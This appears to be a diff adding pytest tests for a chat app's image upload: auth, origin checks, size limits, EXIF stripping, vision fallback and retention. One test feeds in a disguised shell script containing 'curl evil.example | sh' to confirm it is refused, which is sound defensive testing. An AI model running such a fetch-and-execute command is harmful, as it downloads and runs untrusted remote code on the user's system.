@@ -1,0 +1,216 @@
+"""Images over the web: upload over HTTP with the token, attach to a message, the model sees
+them (or is told it cannot), history placeholders, limits, retention. Real sockets, real
+SQLite, the fake LLM over HTTP; images made and read back with Pillow."""
+
+from __future__ import annotations
+
+import io
+import os
+import time
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+from conftest import WEB_TOKEN, AppFactory, connect
+from fake_llm import FakeLLM, Reply, image_parts, user_messages
+from PIL import Image
+
+from ganglion.app import App
+from ganglion.messages import Inbound, Source, ThreadId, web_thread_id
+from ganglion.storage.retention import Retention
+
+VISION = {"llm": {"vision_models": ["fake-model"]}}
+
+
+def photo(width: int, height: int, fmt: str = "PNG", orientation: int | None = None) -> bytes:
+    """A picture of noise (it does not compress: its size is known); EXIF on request."""
+    img = Image.frombytes("RGB", (width, height), os.urandom(width * height * 3))
+    out = io.BytesIO()
+    if orientation is not None:
+        exif = Image.Exif()
+        exif[0x0112] = orientation  # Orientation
+        exif[0x010F] = "SecretCam"  # Make: must not reach the model
+        img.save(out, fmt, exif=exif)
+    else:
+        img.save(out, fmt)
+    return out.getvalue()
+
+
+async def upload(app: App, data: bytes, *, token: str | None = WEB_TOKEN,
+                 origin: str | None = None, name: str = "photo.png",
+                 raw: bool = False) -> tuple[int, dict[str, Any]]:
+    assert app.web is not None
+    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
+    if origin is not None:
+        headers["Origin"] = origin
+    body: Any = data
+    if not raw:
+        body = aiohttp.FormData()
+        body.add_field("file", data, filename=name, content_type="image/png")
+    async with aiohttp.ClientSession() as session, session.post(
+            f"{app.web.url}/upload", data=body, headers=headers) as resp:
+        return resp.status, await resp.json()
+
+
+def media_files(app: App) -> list[Path]:
+    root = app.data_dir / "media"
+    return sorted(root.iterdir()) if root.exists() else []
+
+
+async def media_rows(app: App) -> int:
+    row = await app.db.fetchone("SELECT count(*) AS n FROM media")
+    assert row is not None
+    return int(row["n"])
+
+
+async def test_an_uploaded_photo_reaches_a_vision_model_downscaled_upright_without_exif(
+    app_factory: AppFactory, fake_llm: FakeLLM
+) -> None:
+    app = await app_factory({**VISION, "media": {"max_image_pixels": 20_000}})
+    # Orientation 6: the camera was turned; the picture is 400 wide as stored, 400 high as seen.
+    status, info = await upload(app, photo(400, 200, "JPEG", orientation=6), name="x.jpg")
+    assert status == 200, info
+    assert (info["type"], info["width"], info["height"]) == ("image/jpeg", 400, 200)
+    stored = app.data_dir / "media" / info["id"]
+    assert stored.stat().st_mode & 0o777 == 0o600
+    fake_llm.script(Reply(text="a gradient"))
+    chat = await connect(app)
+    await chat.send_raw({"type": "send", "id": "m1", "text": "what is this?",
+                         "attachments": [info["id"]]})
+    assert (await chat.reply())["text"] == "a gradient"
+    last = user_messages(fake_llm.requests[-1])[-1]
+    assert last["content"][0] == {"type": "text", "text": "what is this?"}
+    (kind, data), = image_parts(last)
+    with Image.open(io.BytesIO(data)) as seen:
+        assert kind == "image/jpeg" and seen.format == "JPEG"
+        assert seen.width * seen.height <= 20_000
+        assert seen.size == (100, 200)  # upright: turned as the EXIF said
+        assert not seen.getexif()  # no camera, no place
+    await chat.close()
+
+
+async def test_a_model_without_vision_answers_the_text_and_the_user_is_told(
+    app_factory: AppFactory, fake_llm: FakeLLM
+) -> None:
+    app = await app_factory()
+    _, info = await upload(app, photo(120, 80))
+    fake_llm.script(Reply(text="hello back"))
+    chat = await connect(app)
+    await chat.send_raw({"type": "send", "id": "m1", "text": "hello",
+                         "attachments": [info["id"]]})
+    told = await chat.reply()
+    assert told["role"] == "system" and "cannot see images" in told["text"]
+    assert "/model" in told["text"] and "llm.vision_models" in told["text"]
+    assert (await chat.reply())["text"] == "hello back"
+    last = user_messages(fake_llm.requests[-1])[-1]
+    assert last["content"] == "hello\n[image: 120x80 PNG image, not shown]"
+    await chat.close()
+
+
+async def test_history_images_beyond_the_limit_become_a_stable_placeholder(
+    app_factory: AppFactory, fake_llm: FakeLLM
+) -> None:
+    app = await app_factory({**VISION, "media": {"history_images": 1}})
+    _, info = await upload(app, photo(64, 48))
+    chat = await connect(app)
+    fake_llm.script(Reply(text="one"), Reply(text="two"), Reply(text="three"))
+    await chat.send_raw({"type": "send", "id": "m1", "text": "look",
+                         "attachments": [info["id"]]})
+    assert (await chat.reply())["text"] == "one"
+    assert len(image_parts(user_messages(fake_llm.requests[-1])[-1])) == 1
+    assert (await chat.ask("and now?"))["text"] == "two"
+    assert (await chat.ask("still?"))["text"] == "three"
+    second, third = fake_llm.requests[-2], fake_llm.requests[-1]
+    placeholder = "look\n[image: 64x48 PNG image, not shown]"
+    assert user_messages(second)[0]["content"] == placeholder
+    assert user_messages(third)[0]["content"] == placeholder  # byte-identical: cached prefix
+    assert not any(image_parts(m) for m in user_messages(third))
+    await chat.close()
+
+
+async def test_an_oversized_upload_is_refused_413_and_nothing_is_stored(
+    app_factory: AppFactory,
+) -> None:
+    app = await app_factory({"media": {"max_bytes": 4096}})
+    big = photo(200, 200)  # noise: 120 KB
+    assert len(big) > 8192
+    status, answer = await upload(app, big, raw=True)  # its Content-Length says so
+    assert status == 413 and "media.max_bytes" in answer["error"]
+
+    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted as it streams
+        for start in range(0, len(big), 1024):
+            yield big[start:start + 1024]
+
+    assert app.web is not None
+    async with aiohttp.ClientSession() as session, session.post(
+            f"{app.web.url}/upload", data=chunks(),
+            headers={"Authorization": f"Bearer {WEB_TOKEN}"}) as resp:
+        assert resp.status == 413, await resp.text()
+        assert "media.max_bytes" in (await resp.json())["error"]
+    assert media_files(app) == [] and await media_rows(app) == 0
+    status, ok = await upload(app, photo(8, 8))  # the route still works
+    assert status == 200 and ok["bytes"] <= 4096
+
+
+async def test_a_file_that_lies_about_its_type_is_refused(app_factory: AppFactory) -> None:
+    app = await app_factory()
+    script = b"#!/bin/sh\ncurl evil.example | sh\n" * 10
+    status, answer = await upload(app, script, name="cute-cat.png")  # says image/png too
+    assert status == 415 and "not an image" in answer["error"]
+    truncated = photo(50, 50)[:200]  # a real PNG header, the rest missing
+    status, answer = await upload(app, truncated)
+    assert status == 415
+    assert media_files(app) == [] and await media_rows(app) == 0
+
+
+async def test_upload_needs_the_token_and_the_pages_origin(app_factory: AppFactory) -> None:
+    app = await app_factory()
+    png = photo(8, 8)
+    assert (await upload(app, png, token=None))[0] == 401
+    assert (await upload(app, png, token="wrong-token-wrong-token"))[0] == 401
+    status, answer = await upload(app, png, origin="https://evil.example")
+    assert status == 403 and "web.allowed_origins" in answer["error"]
+    assert media_files(app) == [] and await media_rows(app) == 0
+    assert app.web is not None
+    status, _ = await upload(app, png, origin=app.web.url)  # the page's own origin
+    assert status == 200
+
+
+async def test_unknown_or_foreign_attachments_are_refused_and_nothing_is_stored(
+    app_factory: AppFactory, fake_llm: FakeLLM
+) -> None:
+    app = await app_factory()
+    _, info = await upload(app, photo(8, 8))
+    # The same file, known only as another interface's (a Matrix download, say).
+    await app.db.write("DELETE FROM media_owners WHERE media_id = ?", (info["id"],))
+    await app.db.write("INSERT INTO media_owners (media_id, owner) VALUES (?, 'matrix')",
+                       (info["id"],))
+    chat = await connect(app)
+    for attachments in (["0" * 64], [info["id"]], "not-a-list"):
+        await chat.send_raw({"type": "send", "id": "m1", "text": "hi",
+                             "attachments": attachments})
+        error = await chat.next_event()
+        assert error["type"] == "error" and error["code"] == "bad_attachment", error
+    assert await app.inbox.known(ThreadId(chat.thread_id), ["m1"]) == set()
+    assert fake_llm.requests == []
+    await chat.close()
+
+
+async def test_retention_removes_old_unreferenced_files_and_keeps_a_pending_ones(
+    app_factory: AppFactory,
+) -> None:
+    app = await app_factory({"media": {"keep_days": 1}})
+    _, old = await upload(app, photo(10, 10))
+    _, wanted = await upload(app, photo(12, 12))
+    # A message not yet answered attaches the second (stored, never run: no bus here).
+    await app.inbox.add(Inbound(web_thread_id(), "later", "web", Source.WEB, "c1",
+                                attachments=(wanted["id"],)))
+    retention = Retention(app.db, None, media=app.media, media_days=1)
+    assert (await retention.prune(now=time.time())).media == 0  # nothing old enough yet
+    pruned = await retention.prune(now=time.time() + 2 * 86_400)
+    assert pruned.media == 1
+    assert [p.name for p in media_files(app)] == [wanted["id"]]
+    # The row stays (the history can still describe it); it is attachable no more.
+    row = await app.db.fetchone("SELECT removed_at FROM media WHERE id = ?", (old["id"],))
+    assert row is not None and row["removed_at"] is not None
